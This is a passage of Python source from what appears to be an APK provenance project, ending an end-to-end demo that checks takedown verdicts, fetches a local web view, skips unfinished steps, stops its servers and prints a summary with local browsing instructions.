    def terminal_after(self) -> None:
        self.section(10, "Terminal again", "the feed is republished; the takedown reaches it")
        self.publish_feed(first=False)
        seen = self.terminal({"tiny-app", "shared-one"}, "tiny-app", "taken_down")
        self.result.terminal_after = seen
        for name, verdict in {
            "tiny-app": "taken_down",
            "hot-swapped": "taken_down",
            "shared-one": "trusted",
        }.items():
            self.expect(
                seen.get(name) == verdict,
                f"terminal: {name}.apk is now {verdict}",
                seen.get(name, ""),
            )

    def web_view(self) -> None:
        """Fetch the web view's chain page from the running service, if it has one."""
        import httpx

        self.section(11, "Web view", "the same chain, for people, in the service")
        query = f"/ui/?kind=package&q={TINY}"
        page = httpx.get(self.url + query, timeout=30)
        if page.status_code == 404 and "<" not in page.text[:1]:
            self.skip("web view", "the log service does not mount provenance.web under /ui yet")
            return
        text = page.text
        shown = page.status_code == 200 and TINY in text and "netco" in text.lower()
        self.result.web = {"status": page.status_code, "path": query, "bytes": len(page.content)}
        self.say(
            f"GET {query} -> HTTP {page.status_code}, {len(page.content)} bytes of HTML "
            "(chain, checklist and the takedown, verified by the server like apkprov trace)"
        )
        self.expect(shown, "the web view shows Tiny App's chain with NetCo's takedown")

    # -------------------------------------------------------------------- run

    def run(self) -> StoryResult:
        start = time.monotonic()
        print(
            "apk-provenance, the whole story: every party, end to end, on 127.0.0.1", file=self.out
        )
        steps = [
            self.setup,
            self.register_actors,
            self.register_developers,
            self.release,
            self.shelve,
            self.bad_uploads,
            self.witnesses,
            self.terminal_before,
            self.access_provider,
            self.terminal_after,
            self.web_view,
        ]
        needs = {
            self.access_provider: _takedown_missing(),
            self.terminal_after: _takedown_missing(),
            self.web_view: _missing("provenance.web"),
        }
        try:
            for step in steps:
                why = needs.get(step)
                if why is not None:
                    number, who, what = _SKIPPABLE[step.__name__]
                    self.section(number, who, what)
                    self.skip(f"{who}: {what}", why)
                    continue
                step()
        except Exception as e:  # the story reports, then fails
            self.result.error = f"{self._step}: {type(e).__name__}: {e}"
            self.say(f"!! the story stopped: {self.result.error}")
            (self.dir / "story-error.txt").write_text(traceback.format_exc(), "utf-8")
            self.say("   (traceback in DATA/story-error.txt)")
        finally:
            self.stop()
        self.result.seconds = time.monotonic() - start
        self.summary()
        return self.result

    def stop(self) -> None:
        """Stop every server and close every store (HTTP first, witnesses last)."""
        while self._stops:
            stop = self._stops.pop()
            try:
                stop()
            except Exception as e:  # keep stopping the others
                self.say(f"!! while stopping: {type(e).__name__}: {e}")

    def summary(self) -> None:
        r = self.result
        print(file=self.out)
        print("== Summary ".ljust(WIDTH, "="), file=self.out)
        good = sum(c.ok for c in r.checks)
        self.say(f"{good} of {len(r.checks)} expectations held, in {r.seconds:.1f} s.")
        for c in r.checks:
            if not c.ok:
                self.say(
                    f"FAILED  [{c.step}] {c.label}" + (f": got {c.detail}" if c.detail else "")
                )
        for what, why in r.skipped:
            self.say(f"SKIPPED {what}: {why}")
        if r.error:
            self.say(f"ERROR   {r.error}")
        self.say("Every server the story started is stopped: witnesses, log, verdicts, feed.")
        self.say()
        self.say(f"The data is kept in {self.dir} (delete it when done).", wrap=False)
        self.say("To browse it -- Tiny App's chain and the log -- run, from the repository root:")
        cmd = (
            f".venv/bin/apkprov serve --dir {self.dir / 'log'} --port 8080 \\\n"
            "      --root-key keys/statements-dev/registry-root.pub.pem \\\n"
            "      --verdict-key file:examples/story/keys/verdict-service.key.pem"
        )
        print(textwrap.indent(cmd, "    "), file=self.out)
        if any(what.startswith("Web view") for what, _why in r.skipped):
            self.say(f"and open http://127.0.0.1:8080/v1/trace?package={TINY} (JSON)", wrap=False)
            self.say("(the API is listed at /openapi.json; Ctrl-C stops the service).")
        else:
            self.say(f"and open http://127.0.0.1:8080/ui/?kind=package&q={TINY}", wrap=False)
            self.say("(the log status is at /ui/log, signed verdicts at /v1/verdict?sha256=…, the")
            self.say("API at /openapi.json; Ctrl-C stops it).")
        self.say()
        if not r.ok:
            self.say("The whole story did NOT behave as expected.")
        elif r.skipped:
            self.say(f"The story behaved as expected, but {len(r.skipped)} step(s) were SKIPPED.")
        else:
            self.say("The whole story behaved as expected.")


_SKIPPABLE = {
    "access_provider": (9, "Access provider (NetCo)", "traces Tiny App and takes it down"),
    "terminal_after": (10, "Terminal again", "the takedown reaches the terminal"),
    "web_view": (11, "Web view", "the same chain, for people, in the service"),
}
"""Steps that rest on parts still being finished: numbered and titled for the skip."""


def _missing(module: str) -> str | None:
    """Why ``module`` cannot be used (it has not landed), or None."""
    import importlib.util

    try:
        found = importlib.util.find_spec(module) is not None
    except ModuleNotFoundError:
        found = False
    return None if found else f"{module} is not in this checkout yet"


def _takedown_missing() -> str | None:
    """Why the access provider cannot act here, or None."""
    why = _missing("provenance.takedown") or _missing("provenance.cli.takedown")
    if why is not None:
        return why + " (apkprov takedown prepare/issue)"
    from provenance.statements import TAKEDOWN, RolePolicy

    if "access_provider" not in RolePolicy.default().allowed(TAKEDOWN):
        return "policies/roles.toml does not let access providers sign takedowns"
    return None


def _cert_sha256(pem: Path) -> str:
    """SHA-256 of the DER certificate: what apksigner --print-certs and listings show."""
    from cryptography import x509
    from cryptography.hazmat.primitives.serialization import Encoding

    cert = x509.load_pem_x509_certificate(pem.read_bytes())
    return hashlib.sha256(cert.public_bytes(Encoding.DER)).hexdigest()


def _cosigner_names(note: str) -> list[str]:
    """Key names of the signature lines after the log's own."""
    names = [line.split(" ")[1] for line in note.splitlines() if line.startswith("\u2014 ")]
    return names[1:]


def run_story(directory: Path | None = None, out: IO[str] | None = None) -> StoryResult:
    """Play the whole story in ``directory`` (new or empty; default: a new temp folder).

    Raises :class:`~provenance.errors.InputError` for a folder that is not empty;
    everything else is reported in the result (and printed to ``out``).
    """
    if directory is None:
        directory = Path(tempfile.mkdtemp(prefix="apkprov-story-"))
    else:
        try:
            directory.mkdir(parents=True, exist_ok=True)
            if any(directory.iterdir()):
                raise InputError(f"{directory} is not empty: give a new or empty folder")
        except OSError as e:
            raise InputError(f"cannot use {directory}: {e.strerror or e}") from None
    return Story(directory.resolve(), out if out is not None else sys.stdout).run()
